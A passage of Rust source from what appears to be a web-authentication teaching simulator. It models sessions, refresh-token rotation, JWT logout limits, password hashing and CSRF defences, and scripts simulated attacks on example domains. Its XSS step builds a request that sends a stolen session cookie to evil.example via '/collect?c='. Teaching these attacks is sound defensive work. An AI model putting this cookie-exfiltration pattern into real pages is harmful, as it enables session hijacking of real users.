                self.redis(vec![vec!["SET".into(), format!("refresh:{h}"), format!("{{\"user\":\"{user}\",\"used\":true}}"), "EX".into(), self.s.refresh_ttl_s.to_string()]], "rotation: mark the presented refresh token used (kept, to catch a second use)");
                let cookie = self.new_refresh(&user, "rotation: store the new refresh token");
                let token = self.token_for(&user);
                (200, "New access token".into(), vec![set(name, &token), cookie], format!("The refresh token is known and unused, so the app issues a new access token (exp {} away) and a new refresh token, and marks the old one used. Each refresh token works once: a thief who copied one either uses it first, and Alice's next refresh exposes the theft, or finds it spent.", time_text(self.s.token_ttl_s)))
            }
            ("POST", "/auth/logout") => {
                let clear_refresh = self.refresh_cookie("", true);
                if let Some(rt) = refresh {
                    let h = sha_hex(rt)[..32].to_string();
                    let r = self.redis(vec![vec!["GET".into(), format!("refresh:{h}")]], "whose refresh token is this?");
                    let user = match r.first() {
                        Some(Reply::Bulk(v)) => json_str(v, "user").unwrap_or_default(),
                        _ => String::new(),
                    };
                    self.redis(vec![vec!["DEL".into(), format!("refresh:{h}")], vec!["SREM".into(), format!("user:{user}:refresh"), h]], "logout: revoke this refresh token");
                }
                (200, "Signed out".into(), vec![clear(name), clear_refresh], format!("The app revokes the refresh token and tells the browser to drop both cookies. The access token cannot be revoked (the app checks only its signature): a stolen copy works until its exp, at most {} away. That short life is the whole point of splitting the two.", time_text(self.s.token_ttl_s)))
            }
            ("POST", "/forgot") => {
                let user = form("user").unwrap_or_default();
                let r = self.redis(vec![vec!["GET".into(), format!("user:{user}")]], "is there such an account?");
                let same = "If that account exists, a link is on its way";
                if !matches!(r.first(), Some(Reply::Bulk(_))) {
                    return (200, same.into(), Vec::new(), format!("No account is called {user}, so no mail goes out; the answer is the same either way, so the form does not tell who has an account."));
                }
                let token = self.new_id();
                let h = sha_hex(&token);
                self.redis(vec![vec!["SET".into(), format!("reset:{h}"), user.clone(), "EX".into(), self.s.reset_ttl_s.to_string()]], "store the reset token's hash, for a limited time");
                self.outbox = Some((Who::Laptop, user.clone(), token));
                (200, same.into(), Vec::new(), format!("The app makes a reset token (128 random bits) and mails a link with it to {user}'s address. The store keeps only the token's SHA-256, with a TTL of {}: someone who reads the store (a backup, a leak) cannot use it. A hash this fast is enough here, unlike for passwords: the token is random, so there is nothing to guess.", time_text(self.s.reset_ttl_s)))
            }
            ("POST", "/reset") => {
                let token = form("token").unwrap_or_default();
                let h = sha_hex(&token);
                let r = self.redis(vec![vec!["GET".into(), format!("reset:{h}")]], "is this reset token live? (looked up by its hash)");
                let Some(Reply::Bulk(user)) = r.first() else {
                    return (400, "This link has expired or was already used".into(), Vec::new(), "400: the store has no such reset token: it was used already (each works once) or its TTL ran out. The password stays as it was.".into());
                };
                let user = user.clone();
                self.redis(vec![vec!["DEL".into(), format!("reset:{h}")]], "single use: the link dies now");
                let Some(stored) = self.store_password(&form("password").unwrap_or_default()) else { return (PENDING.0, String::new(), Vec::new(), String::new()) };
                let stored = match stored {
                    Ok(s) => s,
                    Err(e) => return (500, "The password could not be stored".into(), Vec::new(), format!("500: {e}.")),
                };
                self.redis(vec![vec!["SET".into(), format!("user:{user}"), stored]], "store the new password's hash");
                let ended = match self.s.mode {
                    Mode::Sessions => format!("and ends every session of {user} ({}): whoever signed in with the old password is out", self.revoke_all(&user, "sessions", "a new password ends every session of the user")),
                    Mode::Tokens => format!("and revokes every refresh token of {user} ({}): each device must sign in again once its access token expires", self.revoke_all(&user, "refresh", "a new password revokes every refresh token of the user")),
                    Mode::Jwt => "but cannot end the tokens already issued: with nothing on the server, each stays valid until its exp".into(),
                };
                (200, "Password changed".into(), Vec::new(), format!("The token was live, so the app deletes it (a link works once), stores the new password's hash, {ended}."))
            }
            ("POST", "/logout") => {
                if let (Some(v), Mode::Sessions) = (cookie, self.s.mode) {
                    let user = match self.identify(Some(v)) {
                        Identity::User(u, _) => u,
                        Identity::Nobody(_) => String::new(),
                    };
                    self.redis(vec![vec!["DEL".into(), format!("session:{v}")], vec!["SREM".into(), format!("user:{user}:sessions"), v.to_string()]], "logout: delete this session");
                    return (200, "Signed out".into(), vec![clear(name)], "The app deletes the session from its store and tells the browser to drop the cookie (Max-Age=0). A copy of the id anywhere else is now worthless.".into());
                }
                (200, "Signed out".into(), vec![clear(name)], "The app tells the browser to drop the cookie (Max-Age=0), and that is all it can do: it keeps no list of tokens, so the token itself stays valid until its exp. A stolen copy still works.".into())
            }
            ("POST", "/logout-everywhere") => match self.identify(cookie) {
                Identity::User(user, _) if self.s.mode == Mode::Sessions => {
                    let n = self.revoke_all(&user, "sessions", "sign out everywhere: delete every session of the user");
                    (200, format!("Signed out of {n}"), vec![clear(name)], format!("The app deletes every session listed under {user}: each device's next request finds its id unknown. Possible because the sessions live on the server."))
                }
                Identity::User(user, _) if self.s.mode == Mode::Tokens => {
                    let n = self.revoke_all(&user, "refresh", "sign out everywhere: revoke every refresh token of the user");
                    (200, format!("Revoked {n}"), vec![clear(name), self.refresh_cookie("", true)], format!("The app revokes every refresh token listed under {user}: no device can get a new access token. The access tokens out there still work until their exp, at most {} away.", time_text(self.s.token_ttl_s)))
                }
                Identity::User(user, _) => (501, "Not possible".into(), vec![clear(name)], format!("With tokens the app cannot sign {user} out elsewhere: it keeps no list of them, and each stays valid until its exp. It would need a denylist or a per-user token version in a store: state on the server again.")),
                Identity::Nobody(why) => (401, "Sign in first".into(), Vec::new(), format!("401: {why}.")),
            },
            (_, "/transfer") => {
                let (user, how) = match self.identify(cookie) {
                    Identity::User(user, how) => (user, how),
                    Identity::Nobody(why) => {
                        return (401, "Sign in first".into(), Vec::new(), format!("401: {why}, so the transfer is refused.{}", if cross_site { " The cross-site request arrived without the session: the attack failed." } else { "" }));
                    }
                };
                if self.s.csrf_token {
                    let expected = cookie.map(|c| self.csrf_for(c)).unwrap_or_default();
                    let given = form("csrf").unwrap_or_default();
                    if given != expected {
                        return (403, "CSRF token missing or wrong".into(), Vec::new(), format!("403: the session is {user}'s ({how}), but the request lacks the CSRF token the app's own form carries. Another site cannot read that token, so it cannot forge the request: the attack failed."));
                    }
                }
                let note = if cross_site {
                    format!("The request came from another site, but carried {user}'s session ({how}), and the app moved the money: the CSRF attack worked.{}", if method == "GET" { " A state change on GET is the mistake SameSite=Lax does not cover: a top-level link carries Lax cookies." } else { "" })
                } else {
                    format!("{user}'s own form, with its CSRF token: the transfer is done ({how}).")
                };
                let to = form("to").or_else(|| path.split_once("to=").map(|(_, t)| t.split('&').next().unwrap_or("").to_string())).unwrap_or_else(|| "someone".into());
                (200, format!("Sent 100 from {user} to {}", short(&to)), Vec::new(), note)
            }
            ("GET", "/") => {
                if let (None, Mode::Sessions) = (cookie, self.s.mode) {
                    let sid = self.new_id();
                    self.redis(vec![vec!["SET".into(), format!("session:{sid}"), format!("{{\"user\":\"\",\"created\":{}}}", self.now()), "EX".into(), self.s.idle_s.to_string()]], "a visitor: start an anonymous session (for a cart, say)");
                    return (200, "Welcome".into(), vec![set(name, &sid)], "The home page starts an anonymous session for every new visitor, as many frameworks do (for a cart, or a sign-in form's state).".into());
                }
                (200, "Welcome".into(), Vec::new(), "The home page.".into())
            }
            ("GET", p) => match self.identify(cookie) {
                Identity::User(user, how) => (200, format!("{p}: {user}'s page"), Vec::new(), format!("200: {user}'s page ({how}).")),
                Identity::Nobody(why) => (401, format!("Sign in first: {why}"), Vec::new(), format!("401: {why}.")),
            },
            (m, p) => (405, format!("{m} {p} is not allowed"), Vec::new(), "405: the app has no such form.".into()),
        }
    }

    /// The refresh token's cookie: sent back only to /auth, never to scripts.
    fn refresh_cookie(&self, value: &str, clear: bool) -> String {
        let secure = if self.s.https { "; Secure" } else { "" };
        let age = if clear { 0 } else { self.s.refresh_ttl_s };
        format!("refresh={value}; Path=/auth; Max-Age={age}; HttpOnly; SameSite=Strict{secure}")
    }

    /// A new refresh token for `user`, stored as its hash; its Set-Cookie.
    fn new_refresh(&mut self, user: &str, why: &str) -> String {
        let rt = self.new_id();
        let h = sha_hex(&rt)[..32].to_string();
        self.redis(vec![vec!["SET".into(), format!("refresh:{h}"), format!("{{\"user\":\"{user}\"}}"), "EX".into(), self.s.refresh_ttl_s.to_string()], vec!["SADD".into(), format!("user:{user}:refresh"), h]], why);
        self.refresh_cookie(&rt, false)
    }

    /// Deletes every session (or refresh token) listed under `user`; how many, in words.
    fn revoke_all(&mut self, user: &str, what: &str, why: &str) -> String {
        let r = self.redis(vec![vec!["SMEMBERS".into(), format!("user:{user}:{what}")]], &format!("which {} does the user have?", if what == "refresh" { "refresh tokens" } else { "sessions" }));
        let ids = match r.first() {
            Some(Reply::Array(v)) => v.clone(),
            _ => Vec::new(),
        };
        let prefix = if what == "refresh" { "refresh" } else { "session" };
        let mut del = vec!["DEL".to_string()];
        del.extend(ids.iter().map(|i| format!("{prefix}:{i}")));
        del.push(format!("user:{user}:{what}"));
        self.redis(vec![del], why);
        let noun = if what == "refresh" { "refresh token" } else { "session" };
        format!("{} {noun}{}", ids.len(), if ids.len() == 1 { "" } else { "s" })
    }

    /// A fresh 16-byte salt from the run's seed.
    fn salt(&mut self) -> [u8; 16] {
        let mut salt = [0u8; 16];
        salt[..8].copy_from_slice(&self.rng.next_u64().to_le_bytes());
        salt[8..].copy_from_slice(&self.rng.next_u64().to_le_bytes());
        salt
    }

    /// The run stops here until the password hash arrives (the page computes it in a worker).
    fn wait_for_hash(&mut self) {
        let explanation = format!("The page computes this {} hash in a worker, off its own thread: at a real cost it takes a moment, which is the point. The run goes on when it arrives.", self.scheme.name());
        self.local(1, "hashing the password (in a worker)…", vec![field("scheme", self.scheme.name(), self.scheme.memory_text())], explanation);
        self.t.summary.push(format!("Waiting for a {} hash, computed in a worker; the run goes on when it arrives.", self.scheme.name()));
        self.pending = true;
    }

    /// The fields of a stored password string, segment by segment.
    fn stored_fields(&self, stored: &str) -> Vec<Field> {
        let parts: Vec<&str> = stored.split('$').collect();
        match (self.scheme, parts.as_slice()) {
            (Scheme::Argon2id { .. } | Scheme::Scrypt { .. }, ["", alg, rest @ ..]) => {
                let mut out = vec![field("algorithm", format!("${alg}"), "the PHC string format: $id$params$salt$hash")];
                let n = rest.len();
                for (i, part) in rest.iter().enumerate() {
                    let (name, note) = match (i + 2 == n, i + 1 == n, part.starts_with("v=")) {
                        (_, _, true) => ("version", "Argon2 version 0x13 (19), the current one"),
                        (true, _, _) => ("salt", "16 random bytes, base64 without padding: a different one for every password"),
                        (_, true, _) => ("hash", "32 bytes of output, base64 without padding"),
                        _ => ("parameters", "the cost, kept with the hash so it can be raised later for new hashes"),
                    };
                    out.push(field(name, *part, note));
                }
                out
            }
            (Scheme::Bcrypt { .. }, ["", v, cost, rest]) if rest.len() == 53 => vec![
                field("algorithm", format!("${v}"), "bcrypt, version 2b"),
                field("cost", *cost, "2^cost rounds of the key schedule"),
                field("salt", &rest[..22], "16 random bytes in bcrypt's own base64"),
                field("hash", &rest[22..], "23 bytes of output in bcrypt's own base64"),
            ],
            _ => vec![field("stored", short(stored), "")],
        }
    }

    fn hash_spec(&self) -> Vec<SpecRef> {
        let owasp = SpecRef { document: "OWASP".into(), section: String::new(), title: "Password Storage Cheat Sheet".into(), url: "https://cheatsheetseries.owasp.org/cheatsheets/Password_Storage_Cheat_Sheet.html".into() };
        match self.scheme {
            Scheme::Argon2id { .. } => vec![SpecRef::rfc(9106, "4", "Parameter Choice"), owasp],
            Scheme::Scrypt { .. } => vec![SpecRef::rfc(7914, "2", "scrypt Parameters"), owasp],
            _ => vec![owasp],
        }
    }

    fn scheme_note(&self, password: &str) -> String {
        let long = if matches!(self.scheme, Scheme::Bcrypt { .. }) && password.len() > 72 { format!(" This password is {} bytes: bcrypt reads only the first 72, so the rest changes nothing.", password.len()) } else { String::new() };
        let what = match self.scheme {
            Scheme::Argon2id { m_kib, t, .. } => format!("argon2id (RFC 9106) is memory-hard: each guess must fill {m_kib} KiB and pass over it {t} times, so an attacker's GPU cannot run thousands of guesses side by side cheaply."),
            Scheme::Scrypt { log_n, r, .. } => format!("scrypt (RFC 7914) is memory-hard: each guess needs 128·N·r = {} KiB.", (128u64 << log_n) * r as u64 / 1024),
            Scheme::Bcrypt { cost } => format!("bcrypt runs Blowfish's expensive key schedule 2^{cost} times; it needs little memory, so GPUs do better against it than against argon2id or scrypt."),
            Scheme::Sha256 => "One SHA-256, no salt, no cost: a GPU tries billions a second, and two users with the same password have the same hash, so one pass over a word list cracks them all at once.".into(),
            Scheme::Plain => "The password itself: anyone who reads the table (a backup, a log, a curious insider) has every password, and people reuse them on other sites.".into(),
        };
        let salted = if self.scheme.is_slow() { " The random salt makes the same password hash differently for every user, so a leaked table must be attacked one user at a time." } else { "" };
        format!("{what}{salted}{long}")
    }

    /// Hashes a new password (registration, reset) under the app's scheme, as a step; None
    /// while the hash is being computed elsewhere.
    fn store_password(&mut self, password: &str) -> Option<Result<String, String>> {
        let salt = self.salt();
        let r = match crate::ext::password_hash(self.scheme, password, &salt) {
            Ok(r) => r,
            Err(_) => {
                self.wait_for_hash();
                return None;
            }
        };
        if let Ok(stored) = &r {
            let mut fields = vec![field("scheme", self.scheme.name(), self.scheme.memory_text())];
            if self.scheme.is_slow() {
                fields.push(field("salt (hex)", salt.iter().map(|b| format!("{b:02x}")).collect::<String>(), "from the lab's seed here; from the system's random source in a real app"));
            }
            fields.extend(self.stored_fields(stored));
            let explanation = self.scheme_note(password);
            let spec = self.hash_spec();
            self.t.steps.push(Step { at: SimTime(self.at), arrives: None, kind: StepKind::Local, from: 1, to: 1, label: format!("{}: hash the password", self.scheme.name()), fields, bytes: stored.as_bytes().to_vec(), bytes_label: "the stored string".into(), states: Vec::new(), explanation, spec });
            self.at += 1000;
        }
        Some(r)
    }

    /// Checks a typed password against a stored string: the salt and parameters read from it,
    /// the typed password hashed the same way, the two compared. None while hashing elsewhere.
    fn check_password(&mut self, stored: &str, typed: &str) -> Option<Result<bool, String>> {
        let salt = salt_of(self.scheme, stored).unwrap_or([0; 16]);
        let computed = match crate::ext::password_hash(self.scheme, typed, &salt) {
            Ok(Ok(c)) => c,
            Ok(Err(e)) => return Some(Err(e)),
            Err(_) => {
                self.wait_for_hash();
                return None;
            }
        };
        let ok = !computed.is_empty() && computed == stored;
        let fields = vec![
            field("scheme", self.scheme.name(), if self.scheme.is_slow() { "read from the stored string, with the salt" } else { "" }),
            field("stored", short(stored), "from the store"),
            field("computed", short(&computed), "the typed password, hashed the same way"),
            field(if ok { "✔ match" } else { "✘ no match" }, if ok { "signed in" } else { "refused" }, "a comparison in constant time, in a real app"),
        ];
        let explanation = if self.scheme.is_slow() { format!("The app reads the scheme, parameters and salt from the stored string, hashes what was typed the same way, and compares. Every sign-in costs this one hash; every guess an attacker makes against a leaked table costs the same. {}", if ok { "They match." } else { "They differ: the password is wrong." }) } else { format!("The app hashes what was typed (or takes it as it is) and compares. {}", if ok { "They match." } else { "They differ: the password is wrong." }) };
        let spec = self.hash_spec();
        self.t.steps.push(Step { at: SimTime(self.at), arrives: None, kind: StepKind::Local, from: 1, to: 1, label: format!("{}: check the password", self.scheme.name()), fields, bytes: Vec::new(), bytes_label: String::new(), states: Vec::new(), explanation, spec });
        self.at += 1000;
        Some(Ok(ok))
    }

    /// The reset mail the app sends: a real RFC 5322 message.
    fn send_mail(&mut self) {
        let Some((who, user, token)) = self.outbox.take() else { return };
        let to = self.actor_of(who);
        let date = crate::cache::rfc9111::http_date(crate::cookies::run::START + self.now() as i64).replace(" GMT", " +0000");
        let link = format!("{}/reset?token={token}", self.origin());
        let text = format!("From: app.example <no-reply@app.example>\r\nTo: {user} <{user}@mail.example>\r\nDate: {date}\r\nSubject: Reset your password\r\nMessage-ID: <{}@app.example>\r\n\r\nSomeone asked to reset the password of {user}.\r\nIf it was you, open this link within {}:\r\n{link}\r\nIf not, ignore this mail.\r\n", &sha_hex(&token)[..16], time_text(self.s.reset_ttl_s));
        let at = text.find(&link).unwrap_or(0);
        let fields = vec![field("To", format!("{user}@mail.example"), ""), Field { bytes: Some(crate::trace::ByteRange::new(at, at + link.len())), ..field("the link", short(&link), "the token itself travels only here") }];
        self.t.steps.push(Step { at: SimTime(self.at), arrives: Some(SimTime(self.at + 5 * ONE_WAY_US)), kind: StepKind::Message, from: 1, to, label: "mail: reset your password".into(), fields, bytes: text.into_bytes(), bytes_label: "e-mail message (RFC 5322)".into(), states: Vec::new(), explanation: format!("The link reaches {user}'s mailbox. Whoever holds it can set a new password until it is used or its {} run out, which is why it is short-lived and works once.", time_text(self.s.reset_ttl_s)), spec: vec![SpecRef::rfc(5322, "3.6", "Field Definitions")] });
        self.at += 5 * ONE_WAY_US;
        self.mail = Some(token);
    }

    fn local(&mut self, who: usize, label: &str, fields: Vec<Field>, explanation: String) {
        self.t.steps.push(Step { at: SimTime(self.at), arrives: None, kind: StepKind::Local, from: who, to: who, label: label.into(), fields, bytes: Vec::new(), bytes_label: String::new(), states: Vec::new(), explanation, spec: Vec::new() });
        self.at += 1000;
    }

    fn evil(&mut self) -> usize {
        if let Some(i) = self.evil_actor {
            return i;
        }
        self.t.actors.push(Actor { id: "evil".into(), name: "evil.example".into(), detail: "the attacker's site".into() });
        self.evil_actor = Some(self.t.actors.len() - 1);
        self.t.actors.len() - 1
    }

    fn run(&mut self, events: &[Event]) {
        for e in events {
            match e {
                Event::Register(who, user) => {
                    let password = self.current.clone();
                    let (status, text) = self.request(*who, "POST", "/register", Context::typed(), Some(vec![("user".into(), user.clone()), ("password".into(), password)]), &format!("{user} creates an account on the {}: the form posts the name and the password (over https, the only protection it has on the way)", who.name()));
                    if !self.pending {
                        self.t.summary.push(format!("{}: register {user}: {status}, {}.", who.name(), text));
                    }
                }
                Event::Login(who, user, attempt) => {
                    let (password, which) = match attempt {
                        Attempt::Right => (self.current.clone(), ""),
                        Attempt::Wrong => (WRONG_GUESS.to_string(), " (a wrong password)"),
                        Attempt::Old => (self.first.clone(), " (the password from before the reset)"),
                    };
                    let (status, _) = self.request(*who, "POST", "/login", Context::typed(), Some(vec![("user".into(), user.clone()), ("password".into(), password)]), &format!("{user} signs in on the {}{which}: the form posts the user name and password", who.name()));
                    if !self.pending {
                        self.t.summary.push(format!("{}: {user} signs in{which} ({status}).", who.name()));
                    }
                }
                Event::Reset(who, user) => {
                    let (status, _) = self.request(*who, "POST", "/forgot", Context::typed(), Some(vec![("user".into(), user.clone())]), &format!("“Forgot your password?” on the {}: the form posts the user name", who.name()));
                    let mailed = self.outbox.is_some();
                    self.send_mail();
                    self.t.summary.push(format!("{}: reset link for {user} asked ({status}){}.", who.name(), if mailed { ", mailed" } else { ", nothing mailed" }));
                }
                Event::UseReset(who) => match self.mail.clone() {
                    None => {
                        let actor = self.actor_of(*who);
                        self.local(actor, "no reset link", Vec::new(), "No reset link has been mailed yet: add `reset alice` before this line.".into());
                        self.t.summary.push(format!("{}: no reset link to use.", who.name()));
                    }
                    Some(token) => {
                        let new = self.new_password.clone();
                        let (status, text) = self.request(*who, "POST", "/reset", Context::typed(), Some(vec![("token".into(), token), ("password".into(), new.clone())]), &format!("The {} opens the link from the mail and sets a new password: the form posts the token and the new password", who.name()));
                        if status == 200 {
                            self.current = new;
                        }
                        if !self.pending {
                            self.t.summary.push(format!("{}: reset link used: {status}, {}.", who.name(), text));
                        }
                    }
                },
                Event::Refresh(who) => {
                    let (status, text) = self.request(*who, "POST", "/auth/refresh", Context::typed(), Some(Vec::new()), &format!("The {}'s page asks for a new access token (the old one is expiring): the refresh cookie goes along, since its Path is /auth", who.name()));
                    self.t.summary.push(format!("{}: refresh: {status}, {}.", who.name(), text));
                }
                Event::Get(who, p) => {
                    let (status, text) = self.request(*who, "GET", p, Context::typed(), None, &format!("The {} asks for {p}", who.name()));
                    self.t.summary.push(format!("{}: GET {p}: {status}, {}.", who.name(), text.trim_end_matches('.')));
                }
                Event::Post(who, p) => {
                    let sid = self.jars[Self::device(*who)].cookies.iter().find(|c| c.name == self.cookie_name()).map(|c| c.value.clone()).unwrap_or_default();
                    let mut body = vec![("to".to_string(), "bob".to_string()), ("amount".to_string(), "100".to_string())];
                    if self.s.csrf_token {
                        body.push(("csrf".into(), self.csrf_for(&sid)));
                    }
                    let origin = self.url("/");
                    let ctx = Context { initiator: Some(origin), navigation: true, method: "POST".into(), top_level: None };
                    let (status, text) = self.request(*who, "POST", p, ctx, Some(body), &format!("The {} submits the app's own form to {p}{}", who.name(), if self.s.csrf_token { ", with the CSRF token the page carried" } else { "" }));
                    self.t.summary.push(format!("{}: POST {p}: {status}, {}.", who.name(), text.trim_end_matches('.')));
                }
                Event::Logout(who) => {
                    let path = if self.s.mode == Mode::Tokens { "/auth/logout" } else { "/logout" };
                    let (status, _) = self.request(*who, "POST", path, Context::typed(), Some(Vec::new()), &format!("Sign out on the {}", who.name()));
                    self.t.summary.push(format!("{}: logout ({status}).", who.name()));
                }
                Event::LogoutEverywhere(who) => {
                    let (status, text) = self.request(*who, "POST", "/logout-everywhere", Context::typed(), Some(Vec::new()), &format!("Sign out everywhere, from the {}", who.name()));
                    self.t.summary.push(format!("{}: sign out everywhere: {status}, {}.", who.name(), text));
                }
                Event::Wait(secs) => {
                    self.at = self.at.saturating_add(secs.saturating_mul(1_000_000));
                    let before = self.store_state();
                    self.expire_store();
                    let gone: Vec<String> = before.vars.iter().filter(|v| !self.store.iter().any(|k| k.name == v.name)).map(|v| v.name.clone()).collect();
                    let explanation = if gone.is_empty() { format!("{} pass.", time_text(*secs)) } else { format!("{} pass. The store's TTLs ran out for {}: those sessions are over (idle timeout).", time_text(*secs), gone.join(", ")) };
                    self.local(0, &format!("{} later", time_text(*secs)), gone.iter().map(|g| field(format!("✘ {g}"), "expired", "its TTL reached zero")).collect(), explanation);
                }
                Event::Csrf { post, path } => {
                    let laptop = self.actor_of(Who::Laptop);
                    self.local(laptop, "Alice opens a page on evil.example", Vec::new(), format!("Alice, signed in to app.example, opens a page on evil.example. It {}.", if *post { format!("holds a hidden form that posts itself to app.example{path}") } else { format!("sends her browser to app.example{path} (a link, or a redirect)") }));
                    let ctx = Context { initiator: Url::parse("https://evil.example/").ok(), navigation: true, method: if *post { "POST".into() } else { "GET".into() }, top_level: None };
                    let body = if *post { Some(vec![("to".to_string(), "mallory".to_string()), ("amount".to_string(), "100".to_string())]) } else { None };
                    let (status, text) = self.request(Who::Laptop, if *post { "POST" } else { "GET" }, path, ctx, body, &format!("evil.example's {} makes Alice's browser send this, with whatever cookies the jar allows for a cross-site {}", if *post { "form" } else { "link" }, if *post { "POST" } else { "navigation" }));
                    let worked = status == 200;
                    self.t.summary.push(format!("CSRF from evil.example ({} {path}): {status}, {}{}.", if *post { "POST" } else { "GET" }, text.trim_end_matches('.'), if worked { ": the attack worked" } else { ": the attack failed" }));
                }
                Event::Xss => {
                    let laptop = self.actor_of(Who::Laptop);
                    let url = self.url("/");
                    let now_s = crate::cookies::run::START + self.now() as i64;
                    let d = self.jars[0].decide(&url, &Context::typed(), Api::Script, Policy::default(), now_s);
                    let visible = self.jars[0].header(&d);
                    let name = self.cookie_name();
                    let got = jar::parse_cookie_header(&visible).into_iter().find(|(n, _)| n == name);
                    let fields = vec![field("document.cookie", format!("\"{}\"", short(&visible)), "what the injected script reads")];
                    let explanation = match &got {
                        Some(_) => format!("Script injected into app.example's page (a comment that was not escaped, say) reads document.cookie. The {name} cookie has no HttpOnly, so the script gets it and sends it to evil.example."),
                        None => format!("Script injected into app.example's page reads document.cookie, but the {name} cookie is HttpOnly: scripts cannot see it. (The script can still act inside the page while it is open; HttpOnly stops the theft, not the attack.)"),
                    };
                    self.local(laptop, "injected script reads document.cookie", fields, explanation);
                    if let Some((n, v)) = got.clone() {
                        let evil = self.evil();
                        let m = Message::request("GET", &format!("/collect?c={}", short(&v))).header("Host", "evil.example");
                        let (bytes, fields) = m.encode();
                        self.t.steps.push(Step { at: SimTime(self.at), arrives: Some(SimTime(self.at + ONE_WAY_US)), kind: StepKind::Message, from: laptop, to: evil, label: "GET /collect (the stolen cookie)".into(), fields, bytes, bytes_label: "HTTP/1.1 request".into(), states: Vec::new(), explanation: "The script sends the cookie to the attacker's server, in an image's address.".into(), spec: Vec::new() });
                        self.at += ONE_WAY_US;
                        self.stolen = Some((n, v));
                    }
                    self.t.summary.push(format!("XSS on the laptop: {}.", if got.is_some() { "the session cookie was read and sent to evil.example" } else { "document.cookie did not show the session cookie (HttpOnly)" }));
                }
                Event::Sniff => {
                    let attacker = self.actor_of(Who::Attacker);
                    let name = self.cookie_name();
                    let last = self.last_laptop.clone().unwrap_or_default();
                    let text = String::from_utf8_lossy(&last).to_string();
                    // The refresh token if the request carried one (it outlives the access token),
                    // else the session cookie.
                    let pairs = text.lines().find_map(|l| l.strip_prefix("Cookie: ")).map(jar::parse_cookie_header).unwrap_or_default();
                    let cookie = pairs.iter().find(|(n, _)| n == "refresh").or_else(|| pairs.iter().find(|(n, _)| n == name)).cloned();
                    let (explanation, got) = if self.s.https {
                        ("Someone on the café's Wi-Fi records the laptop's traffic to app.example. It is https: they see TLS records to app.example and their sizes, nothing of the cookie.".to_string(), None)
                    } else if last.is_empty() {
                        ("Someone on the café's Wi-Fi records the laptop's traffic, but the laptop has not talked to app.example yet.".to_string(), None)
                    } else if let Some(c) = cookie {
                        (format!("Someone on the café's Wi-Fi records the laptop's traffic. The app is plain http, so the last request is readable, Cookie header and all: they now hold {}=….", c.0), Some(c))
                    } else {
                        ("Someone on the café's Wi-Fi reads the laptop's last request (plain http), but it carried no session cookie.".to_string(), None)
                    };
                    let fields = if self.s.https || last.is_empty() { Vec::new() } else { vec![field("what they read", short(text.lines().next().unwrap_or("")), text.lines().find(|l| l.starts_with("Cookie:")).unwrap_or("no Cookie header").to_string())] };
                    self.local(attacker, "a network attacker reads the laptop's traffic", fields, explanation);
                    let what = match &got {
                        Some((n, _)) if n == "refresh" => "the refresh token was read off the wire (plain http)",
                        Some(_) => "the session cookie was read off the wire (plain http)",
                        None => "nothing usable",
                    };
                    self.t.summary.push(format!("Sniffing the laptop's network: {what}."));
                    if got.is_some() {
                        self.stolen = got;
                    }
                }
                Event::Replay => {
                    let attacker = self.actor_of(Who::Attacker);
                    match self.stolen.clone() {
                        None => {
                            self.local(attacker, "nothing to replay", Vec::new(), "The attacker has stolen nothing to replay.".into());
                            self.t.summary.push("Replay: the attacker had nothing.".into());
                        }
                        Some((n, v)) => {
                            let url = self.url("/");
                            let now_s = crate::cookies::run::START + self.now() as i64;
                            let refresh = n == "refresh";
                            self.jars[2].set(&format!("{n}={v}; Path={}", if refresh { "/auth" } else { "/" }), &url, &Context::typed(), Api::Http, Policy::default(), now_s);
                            self.local(attacker, "the attacker puts the stolen cookie in their browser", vec![field(n.clone(), short(&v), "typed into their own browser's storage")], "A cookie is a bearer credential: whoever presents it is the user, from any machine.".into());
                            let (status, text) = if refresh {
                                self.request(Who::Attacker, "POST", "/auth/refresh", Context::typed(), Some(Vec::new()), "The attacker trades the stolen refresh token for an access token of Alice's")
                            } else {
                                self.request(Who::Attacker, "GET", "/account", Context::typed(), None, "The attacker asks for Alice's account with the stolen cookie")
                            };
                            self.t.summary.push(format!("Replay of the stolen {}: {status}, {}{}.", if refresh { "refresh token" } else { "cookie" }, text.trim_end_matches('.'), if status == 200 { ": the attacker is in" } else { ": refused" }));
                        }
                    }
                }
                Event::Leak => {
                    let attacker = self.actor_of(Who::Attacker);
                    let accounts: Vec<(String, String)> = self.store.iter().filter(|k| k.name.starts_with("user:") && k.name.matches(':').count() == 1).map(|k| (k.name.clone(), k.value.clone())).collect();
                    let mut shared = 0;
                    for (i, (_, v)) in accounts.iter().enumerate() {
                        if accounts.iter().enumerate().any(|(j, (_, w))| j != i && w == v) {
                            shared += 1;
                        }
                    }
                    let fields = accounts.iter().map(|(k, v)| field(k.clone(), short(v), if accounts.iter().filter(|(_, w)| w == v).count() > 1 { "the same as another account's" } else { "" })).collect();
                    let n = accounts.len();
                    let explanation = if n == 0 {
                        "The store leaks, but it holds no accounts yet (add `register alice` before this line).".to_string()
                    } else {
                        match self.scheme {
                            Scheme::Plain => format!("The store leaks (a backup left public, an injection). It holds the passwords as typed: the attacker has all {n}, and can try them on every other site where these people reused them."),
                            Scheme::Sha256 => format!("The store leaks. Unsalted SHA-256: {shared} of the {n} accounts share a hash, so they share a password, and one guess checks every account at once. Tables of the SHA-256 of billions of common passwords exist ready-made, and a GPU tries billions more a second."),
                            _ => format!("The store leaks. Every account's hash is different{}: each has its own salt, so each must be attacked on its own, and every guess costs a full {} (the panel shows what that costs here).", if n > 1 { ", even where the passwords are the same" } else { "" }, self.scheme.name()),
                        }
                    };
                    self.local(attacker, "the store's accounts leak", fields, explanation);
                    self.t.summary.push(format!("The store leaks: {n} account{}, {shared} sharing a hash.", if n == 1 { "" } else { "s" }));
                }
                Event::Fixate => {
                    let (_, _) = self.request(Who::Attacker, "GET", "/", Context::typed(), None, "The attacker visits the app first and gets an anonymous session");
                    let sid = self.jars[2].cookies.iter().find(|c| c.name == self.cookie_name()).map(|c| c.value.clone());
                    let laptop = self.actor_of(Who::Laptop);
                    match sid {
                        Some(sid) => {
                            let url = self.url("/");
                            let now_s = crate::cookies::run::START + self.now() as i64;
                            let attrs = self.s.cookie.clone();
                            let before = self.jar_state(Who::Laptop);
                            self.jars[0].set(&format!("{}={sid}; {attrs}", self.cookie_name()), &url, &Context::typed(), Api::Http, Policy::default(), now_s);
                            let after = self.jar_state(Who::Laptop);
